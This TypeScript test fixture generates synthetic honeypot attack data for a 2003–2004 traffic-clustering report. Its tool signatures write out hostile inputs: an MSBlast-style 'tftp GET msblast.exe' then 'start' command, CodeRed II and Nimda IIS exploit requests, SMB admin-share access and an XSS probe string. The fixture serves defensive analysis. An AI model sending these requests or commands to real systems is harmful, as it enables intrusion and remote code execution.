import type { DuckDBConnection } from '@duckdb/node-api';
import { openReportStore, quoted } from './report-fixtures.js';
import type { ReportStore } from './report-fixtures.js';

/** A made-up tool: which months it runs in, how much, against what. */
interface Tool {
  readonly name: string | null;
  readonly ports: string;
  readonly counts: readonly [number, number, number];
  readonly weight: number;
  readonly months: readonly [number, number];
  readonly fields: readonly unknown[];
  readonly distance: number;
  readonly family: number;
}

const fixed = (text: string) => ({ kind: 'fixed', text });
const variable = (
  alphabet: string,
  minLength: number,
  maxLength: number,
  values: number,
  ...examples: string[]
) => ({
  kind: 'variable',
  alphabet,
  minLength,
  maxLength,
  values,
  examples,
});
const ftp = (login: unknown) => [
  fixed('USER anonymous\\r\\n||PASS '),
  login,
  fixed(
    '@home.com\\r\\n||CWD /pub/\\r\\n||MKD 030917141612p\\r\\n||CWD /public/\\r\\n||CWD /_vti_pvt/\\r\\n||QUIT\\r\\n',
  ),
];

const knownTools: readonly Omit<Tool, 'family'>[] = [
  { name: null, ports: '445', counts: [3, 3, 3], weight: 300, months: [0, 12], fields: [], distance: 0 },
  { name: null, ports: '445', counts: [1, 0, 0], weight: 82, months: [0, 17], fields: [], distance: 0 },
  { name: null, ports: '445', counts: [3, 3, 2], weight: 28, months: [0, 9], fields: [], distance: 0 },
  {
    name: 'MBlaster.A',
    ports: '135,4444',
    counts: [3, 8, 2],
    weight: 120,
    months: [6, 17],
    fields: [
      fixed('<05000b03100000004800000001000000>||<050000031000000090060000>||tftp -i '),
      variable('0-9.', 7, 15, 2841, '10.22.1.4', '192.168.4.117'),
      fixed(' GET msblast.exe\\r\\n||start msblast.exe\\r\\n'),
    ],
    distance: 11.3,
  },
  {
    name: 'MBlaster.B',
    ports: '135,4444',
    counts: [6, 16, 4],
    weight: 60,
    months: [7, 17],
    fields: [
      fixed('<05000b03100000004800000001000000>||<050000031000000090060000>||tftp -i '),
      variable('0-9.', 7, 15, 1210, '10.22.1.4'),
      fixed(' GET penis32.exe\\r\\n||start penis32.exe\\r\\n'),
    ],
    distance: 10.8,
  },
  {
    name: null,
    ports: '135',
    counts: [3, 7, 3],
    weight: 130,
    months: [5, 17],
    fields: [fixed('<05000b03100000004800000001000000d016d016>')],
    distance: 0,
  },
  {
    name: null,
    ports: '135',
    counts: [3, 15, 3],
    weight: 44,
    months: [8, 17],
    fields: [fixed('<05000b0310000000480000000100>||<0500000310000000>')],
    distance: 0,
  },
  {
    name: 'CodeRed II',
    ports: '80',
    counts: [0, 3, 0],
    weight: 130,
    months: [0, 17],
    fields: [
      fixed(
        `GET /default.ida?${'X'.repeat(224)}%u9090%u6858%ucbd3%u7801%u9090 HTTP/1.0\\r\\nContent-type: text/xml\\r\\nContent-length: 3379\\r\\n\\r\\n`,
      ),
    ],
    distance: 0,
  },
  {
    name: 'Nimda',
    ports: '80',
    counts: [3, 5, 3],
    weight: 45,
    months: [0, 13],
    fields: [
      fixed(
        'GET /scripts/root.exe?/c+dir HTTP/1.0\\r\\nHost: www\\r\\nConnnection: close\\r\\n\\r\\n||GET /MSADC/root.exe?/c+dir HTTP/1.0\\r\\n\\r\\n||GET /c/winnt/system32/cmd.exe?/c+dir HTTP/1.0\\r\\n\\r\\n',
      ),
    ],
    distance: 0,
  },
  { name: null, ports: '80', counts: [1, 0, 0], weight: 14, months: [0, 17], fields: [], distance: 0 },
  {
    name: 'SQLSnake',
    ports: '1433',
    counts: [3, 3, 3],
    weight: 100,
    months: [0, 17],
    fields: [fixed('<0000000000000000>')],
    distance: 0,
  },
  { name: 'Sfind', ports: '1433', counts: [1, 1, 1], weight: 36, months: [2, 17], fields: [], distance: 0 },
  {
    name: null,
    ports: '1433',
    counts: [4, 4, 4],
    weight: 30,
    months: [4, 17],
    fields: [fixed(`<${'00'.repeat(24)}>`)],
    distance: 0,
  },
  {
    name: null,
    ports: '139',
    counts: [3, 3, 3],
    weight: 92,
    months: [2, 17],
    fields: [fixed('<810000442043'), variable('0-9a-f', 30, 30, 1904, '4b4644454e454346'), fixed('>')],
    distance: 27.4,
  },
  { name: null, ports: '139', counts: [4, 4, 0], weight: 16, months: [3, 15], fields: [], distance: 0 },
  {
    name: null,
    ports: '139,445',
    counts: [18, 18, 2],
    weight: 40,
    months: [3, 17],
    fields: [
      fixed('<ff534d4272>NT LM 0.12||'),
      variable('A-Za-z0-9', 8, 15, 412, 'WORKSTN-01'),
      fixed('||IPC$'),
    ],
    distance: 6.2,
  },
  {
    name: 'Leviathan Auditor',
    ports: '139,445',
    counts: [72, 70, 3],
    weight: 8,
    months: [5, 16],
    fields: [fixed('<ff534d4272>NT LM 0.12||administrator||IPC$||ADMIN$||C$')],
    distance: 1.4,
  },
  { name: null, ports: '445,139', counts: [6, 6, 2], weight: 18, months: [3, 8], fields: [], distance: 0 },
  {
    name: "Grim's Ping",
    ports: '21',
    counts: [6, 5, 5],
    weight: 22,
    months: [0, 17],
    fields: ftp(variable('A-Z', 1, 1, 26, 'A', 'M')),
    distance: 2,
  },
  {
    name: "Roadkil's FTP Probe",
    ports: '21',
    counts: [4, 4, 3],
    weight: 13,
    months: [0, 17],
    fields: [fixed('USER anonymous\\r\\n||PASS roadkil@\\r\\n')],
    distance: 0,
  },
  { name: null, ports: '21', counts: [3, 2, 2], weight: 10, months: [0, 17], fields: [], distance: 0 },
  { name: null, ports: '17300', counts: [1, 1, 1], weight: 14, months: [5, 8], fields: [], distance: 0 },
  { name: null, ports: '17300', counts: [2, 2, 2], weight: 12, months: [5, 8], fields: [], distance: 0 },
  {
    name: 'RTSP scanner',
    ports: '554',
    counts: [3, 3, 2],
    weight: 18,
    months: [6, 11],
    fields: [
      fixed('OPTIONS * RTSP/1.0\\r\\nCSeq: '),
      variable('0-9', 1, 4, 188, '1', '42'),
      fixed('\\r\\n\\r\\n'),
    ],
    distance: 2.1,
  },
  {
    name: null,
    ports: '80,57,21',
    counts: [14, 13, 13],
    weight: 15,
    months: [0, 8],
    fields: [fixed('OPTIONS / HTTP/1.1\\r\\n||USER anonymous\\r\\n')],
    distance: 0.4,
  },
  {
    name: null,
    ports: '443',
    counts: [3, 5, 0],
    weight: 14,
    months: [0, 8],
    fields: [fixed('<804c0103000033>')],
    distance: 0,
  },
  {
    name: null,
    ports: '6129',
    counts: [3, 3, 3],
    weight: 40,
    months: [11, 17],
    fields: [fixed('<301000000000'), variable('0-9a-f', 16, 16, 977, 'a81200cc'), fixed('>')],
    distance: 15.6,
  },
  { name: null, ports: '27374', counts: [2, 2, 2], weight: 16, months: [8, 10], fields: [], distance: 0 },
  {
    name: 'Slammer',
    ports: '1434U',
    counts: [1, 1, 1],
    weight: 12,
    months: [0, 17],
    fields: [fixed(`<04${'01'.repeat(96)}>`)],
    distance: 0,
  },
  {
    name: null,
    ports: 'I',
    counts: [1, 1, 1],
    weight: 20,
    months: [0, 17],
    fields: [fixed('abcdefghijklmnopqrstuvwabcdefghi')],
    distance: 0,
  },
];

/** The same numbers on every run. */
function randomness(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

const honeypots = ['win98', 'winnt', 'redhat'] as const;
const firstDay = Date.parse('2003-02-03');
const months = 18;
const hex = (number: number, width: number) => number.toString(16).padStart(width, '0');
const id = (letter: string, number: number) => letter + hex(number * 2654435761 + 97, 16).slice(-16);

function allTools(random: () => number): Tool[] {
  const tools: Tool[] = knownTools.map((tool, index) => ({ ...tool, family: index }));
  const ports = [
    '22',
    '23',
    '25',
    '53U',
    '110',
    '137U',
    '901',
    '1080',
    '3128',
    '3389',
    '4899',
    '5000',
    '8080',
    '20168',
  ];
  for (let extra = 0; extra < 120; extra += 1) {
    const pick = () => ports[Math.floor(random() * ports.length)] ?? '22';
    const sequence = [...new Set(Array.from({ length: 1 + Math.floor(random() * random() * 5) }, pick))].join(
      ',',
    );
    const from = Math.floor(random() * 16);
    const count = 1 + Math.floor(random() * 6);
    tools.push({
      name: null,
      ports: sequence,
      counts: [count, random() < 0.7 ? count : 0, random() < 0.6 ? count : 0],
      weight: 0.15 + 3 * random() ** 3,
      months: [from, Math.min(17, from + Math.floor(random() * 8))],
      fields: random() < 0.5 ? [] : [fixed(`probe-${extra} `), variable('a-z', 4, 8, 3 + extra, 'wxyz')],
      distance: random() < 0.6 ? 0 : random() * 40,
      family: random() < 0.55 ? tools.length : Math.floor(random() * tools.length),
    });
  }
  return tools;
}

/** A store of the report's size and period: `sources` attack sources over 18 months from February 2003. */
export async function realisticStore(sources = 45_360): Promise<ReportStore> {
  const store = await openReportStore('', {
    name: 'riviera',
    version: '0.1.0',
    options: { 'source-mode': 'day', unit: 'all', 'min-support': 0.01, counts: 'raw', matching: 'stable' },
  });
  const random = randomness(20040104);
  const tools = allTools(random);
  await fillSources(store.connection, tools, sources, random);
  await store.connection.run(derivedTables(tools));
  return store;
}

async function fillSources(
  connection: DuckDBConnection,
  tools: readonly Tool[],
  sources: number,
  random: () => number,
): Promise<void> {
  await connection.run(`CREATE TABLE made(n INTEGER, tool INTEGER, day DATE, t INTEGER, packets INTEGER,
    duration DOUBLE, ip VARCHAR, backscatter BOOLEAN, swap BOOLEAN, n0 INTEGER, n1 INTEGER, n2 INTEGER)`);
  const appender = await connection.createAppender('made');
  const cumulative: number[] = [];
  let total = 0;
  for (const tool of tools) cumulative.push((total += tool.weight));
  for (let n = 0; n < sources; n += 1) {
    const point = random() * total;
    const index = cumulative.findIndex((sum) => sum >= point);
    const tool = tools[index];
    if (tool === undefined) continue;
    const [from, to] = tool.months;
    const age = random() ** (tool.weight > 100 ? 1.6 : 1);
    const day = firstDay + Math.floor(((from + age * (to - from + 1)) / months) * 545) * 86_400_000;
    const isBackscatter = random() < 0.031;
    const isRare = !isBackscatter && random() < 0.0009;
    const counts = isBackscatter ? ([1, 0, 0] as const) : tool.counts;
    const packets = counts[0] + counts[1] + counts[2];
    appender.appendInteger(n);
    appender.appendInteger(isRare ? -1 : index);
    appender.appendVarchar(new Date(day).toISOString().slice(0, 10));
    appender.appendInteger(counts.filter((count) => count > 0).length);
    appender.appendInteger(packets);
    appender.appendDouble(packets === 1 ? 0 : random() ** 3 * 21 + (random() < 0.004 ? 900 * random() : 0));
    appender.appendVarchar(
      `${24 + (n % 190)}.${(n >> 8) & 255}.${n & 255}.${1 + Math.floor(random() * 250)}`,
    );
    appender.appendBoolean(isBackscatter);
    appender.appendBoolean(random() < 0.004);
    for (const count of counts) appender.appendInteger(count);
    appender.endRow();
  }
  appender.closeSync();
}

function derivedTables(tools: readonly Tool[]): string {
  const clusterIds = new Map<string, number>();
  const rows = tools.map((tool, index) => {
    const [a, b, c] = tool.counts;
    const items = [
      `T=${tool.counts.filter((count) => count > 0).length}`,
      `N=${a + b + c}`,
      ...tool.counts.flatMap((count, position) =>
        count > 0 ? [`n_${honeypots[position] ?? ''}=${count}`] : [],
      ),
    ].join(' & ');
    const key = `${tool.ports} ${items}`;
    const cluster = clusterIds.get(key) ?? index;
    clusterIds.set(key, cluster);
    const plain = tool.fields.map((field) => (field as { text?: string }).text ?? '{*}').join('');
    return `(${index}, ${quoted(id('R', index))}, ${quoted(id('F', tool.family))}, ${quoted(id('C', cluster))}, ${quoted(
      tool.ports,
    )}, ${quoted(items)}, ${tool.name === null ? 'NULL' : quoted(tool.name)}, ${quoted(plain)}, ${quoted(
      JSON.stringify(tool.fields),
    )}, ${tool.distance})`;
  });
  return `
CREATE TABLE tools(tool INTEGER, rid VARCHAR, fid VARCHAR, cid VARCHAR, ports VARCHAR, itemset VARCHAR, name VARCHAR,
  template VARCHAR, fields VARCHAR, distance DOUBLE);
INSERT INTO tools VALUES ${rows.join(',\n')};
INSERT INTO attack_sources SELECT ip || '@' || m.day, m.day, ip,
  CASE WHEN backscatter THEN '' ELSE coalesce(ports, '31337') END, t, packets, packets, duration,
  duration / nullif(packets - 1, 0), m.day::TIMESTAMP_NS, m.day::TIMESTAMP_NS, backscatter, NULL,
  'P' || coalesce(m.tool, -1), false, packets, 0, 0, 0, CASE WHEN NOT backscatter THEN cid END,
  CASE WHEN NOT backscatter THEN rid END, CASE WHEN NOT backscatter THEN fid END
  FROM made m LEFT JOIN tools USING (tool);
INSERT INTO source_targets SELECT ip || '@' || day, day, unnest(['win98', 'winnt', 'redhat']) AS honeypot,
  unnest([n0, n1, n2]) AS n, n, day::TIMESTAMP + to_milliseconds(unnest(CASE WHEN swap THEN [3, 1, 2] ELSE [1, 2, 3] END))
  FROM made;
DELETE FROM source_targets WHERE packets = 0;
INSERT INTO memberships SELECT source_id, day, cluster_id, root_cause_id, family_id,
  CASE WHEN backscatter THEN 'backscatter' WHEN root_cause_id IS NULL THEN 'rare' ELSE 'root_cause' END,
  NOT backscatter AND root_cause_id IS NULL AND hash(source_id) % 3 = 0 FROM attack_sources;
INSERT INTO phrases SELECT 'P' || tool, template, length(template), 1 FROM tools;
INSERT INTO phrases VALUES ('P-1', 'SSH-2.0-<1b>[31mlook<07>||<script>alert(1)\\</script>||' || repeat('<00>A', 400), 2050, 40);
INSERT INTO clusters SELECT cluster_id, any_value(ports_sequence), any_value(itemset),
  count(*) / any_value(total), count(*), count(*), sum(packets), CASE WHEN count(DISTINCT root_cause_id) > 1 THEN 88.4
  ELSE any_value(distance) END, any_value(distance) * 2.6, any_value(distance) * 0.4,
  CASE WHEN any_value(distance) = 0 THEN 1 ELSE count(*) // 2 + 1 END, NULL, count(DISTINCT root_cause_id)
  FROM attack_sources JOIN tools ON rid = root_cause_id
  JOIN (SELECT ports_sequence AS p, count(*) AS total FROM attack_sources GROUP BY ALL) ON p = ports_sequence
  GROUP BY cluster_id HAVING count(*) > 0.01 * any_value(total);
INSERT INTO ports_sequences SELECT ports_sequence, count(*), len(string_split(ports_sequence, ',')), min(day), max(day),
  5 + 6 * count(DISTINCT cluster_id), true, 1 + 2 * count(DISTINCT cluster_id), 'frequent', 0.01, count(DISTINCT cluster_id),
  count(*) FILTER (cluster_id IS NULL OR cluster_id NOT IN (SELECT cluster_id FROM clusters))
  FROM attack_sources WHERE NOT backscatter GROUP BY ports_sequence;
INSERT INTO itemsets SELECT ports_sequence, itemset, len(string_split(itemset, ' & ')), sources, support, true, true
  FROM clusters;
INSERT INTO itemsets SELECT ports_sequence, 'T=' || targets, 1, n, n / sum(n) OVER (PARTITION BY ports_sequence), true,
  false FROM (SELECT ports_sequence, targets, count(*) AS n FROM attack_sources WHERE NOT backscatter GROUP BY ALL);
INSERT INTO root_causes SELECT rid, fid, cid, ports, itemset, count(*), count(*), sum(packets), template, fields, distance, distance * 1.7,
  distance * 0.2, CASE WHEN max(distance) = 0 THEN 1 ELSE count(*) END, 'P' || tool, min(day), max(day), name,
  CASE WHEN distance = 0 THEN 'all phrases are the same' ELSE 'one template; its variable fields explain the distance' END
  FROM attack_sources JOIN tools ON rid = root_cause_id GROUP BY ALL;
INSERT INTO families SELECT family_id, list_sort(list(DISTINCT ports_sequence)), count(*), sum(sources), sum(events), sum(packets), min(first_day),
  max(last_day), CASE WHEN count(*) = 1 THEN 'a single root cause'
  ELSE 'templates agree; counts differ as retransmission explains' END FROM root_causes GROUP BY family_id;
INSERT INTO honeypots VALUES ('win98', 1, ['193.55.113.10'], 'Windows 98', 'sophia', 'FR', false),
  ('winnt', 2, ['193.55.113.11'], 'Windows NT 4.0', 'sophia', 'FR', false),
  ('redhat', 3, ['193.55.113.12', '2001:660:5502::12'], 'Linux RedHat 7.3', 'sophia', 'FR', false);
INSERT INTO captures SELECT strftime(d, 'sophia-%Y-%m-%d.pcap.gz'), 'd', 'pcap+gz', 241200, 7523, 980000, 4100, 3000, 12,
  60, 351, d, d + INTERVAL 1 DAY, 2, dayofyear(d) = 41 FROM range(TIMESTAMP '2003-02-03', TIMESTAMP '2004-08-01', INTERVAL 1 DAY) t(d);
INSERT INTO anomalies SELECT path, 'truncated_packet', 2 FROM captures;
INSERT INTO anomalies SELECT path, 'bad_ipv4_checksum', 1 FROM captures WHERE path LIKE '%-07.pcap.gz';
INSERT INTO losses SELECT path, 'broken_gzip_stream', 198233, NULL FROM captures WHERE damaged;
INSERT INTO support_levels VALUES (0, 512, 781), (0.01, (SELECT count(*) FROM clusters), (SELECT count(*) FROM root_causes)),
  (0.05, 41, 63);`;
}
